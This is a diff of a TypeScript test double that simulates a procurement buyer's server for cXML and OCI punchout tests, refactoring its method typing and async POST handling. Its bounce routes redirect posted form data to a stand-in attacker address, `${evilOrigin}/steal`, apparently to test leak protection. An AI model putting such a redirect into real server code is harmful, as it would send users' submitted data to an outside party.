@@ -33,7 +33,7 @@ export interface Buyer {
   /** Raw answer to a cXML call-up. */
   callUpAnswer(callUp: CallUp): Promise<string>;
   /** Address of a page that shows `url` in a frame called `shop`. */
-  framing(url: string): string;
+  framing: (url: string) => string;
   /** Address of a page that posts these fields to the OCI setup, into its frame or at top level. */
   ociCallUp(fields: Record<string, string>, where: 'shop' | '_top'): string;
   /** Address of any page of the buyer's. */
@@ -57,13 +57,15 @@ export function buyerDouble({ origin, shopUrl, directUrl, evilOrigin }: { origin
     if (page !== undefined) html(page);
     else if (path === '/received') html(RECEIVED_PAGE);
     else if (req.method === 'POST') {
-      void bodyOf(req).then((body) => {
+      const keep = async (): Promise<void> => {
+        const body = await bodyOf(req);
         all.push({ path, body, contentType: req.headers['content-type'] ?? '', destination: String(req.headers['sec-fetch-dest']) });
         const bounce = /^\/bounce-(302|307)\//.exec(path)?.[1];
         if (bounce !== undefined) res.writeHead(Number(bounce), { Location: `${evilOrigin}/steal` }).end();
         else if (path.startsWith('/return/')) html(RECEIVED_PAGE);
         else res.writeHead(303, { Location: '/received' }).end();
-      });
+      };
+      keep().catch(() => res.destroy());
     } else res.writeHead(404).end();
   };
 
